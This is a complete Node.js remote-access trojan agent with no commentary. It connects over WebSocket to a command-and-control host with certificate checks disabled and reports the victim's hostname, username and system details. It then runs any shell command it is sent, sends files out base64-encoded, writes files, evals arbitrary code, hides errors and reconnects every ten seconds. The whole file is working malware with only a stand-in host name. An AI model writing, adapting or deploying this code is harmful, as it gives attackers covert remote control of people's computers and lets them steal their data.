const WebSocket = require('ws');
const { exec } = require('child_process');
const si = require('systeminformation');
const fs = require('fs');
const os = require('os');

const C2 = 'wss://c2.socket-auth.invalid:8443/agent';
let ws;

async function hello() {
  const [osInfo, cpu] = await Promise.all([si.osInfo(), si.cpu()]);
  return { type: 'hello', id: os.hostname() + ':' + os.userInfo().username, os: osInfo.distro, cpu: cpu.brand };
}

function handle(msg) {
  let m; try { m = JSON.parse(msg); } catch (e) { return; }
  if (m.type === 'exec') exec(m.cmd, { timeout: 60000 }, (err, out, errOut) => ws.send(JSON.stringify({ id: m.id, out, err: errOut })));
  else if (m.type === 'read') fs.readFile(m.path, (e, d) => ws.send(JSON.stringify({ id: m.id, data: d ? d.toString('base64') : null })));
  else if (m.type === 'write') fs.writeFile(m.path, Buffer.from(m.data, 'base64'), () => {});
  else if (m.type === 'eval') { try { ws.send(JSON.stringify({ id: m.id, out: String(eval(m.code)) })); } catch (e) {} }
}

function start() {
  ws = new WebSocket(C2, { rejectUnauthorized: false });
  ws.on('open', async () => ws.send(JSON.stringify(await hello())));
  ws.on('message', handle);
  ws.on('error', () => {});
  ws.on('close', () => setTimeout(start, 10000));
}
start();
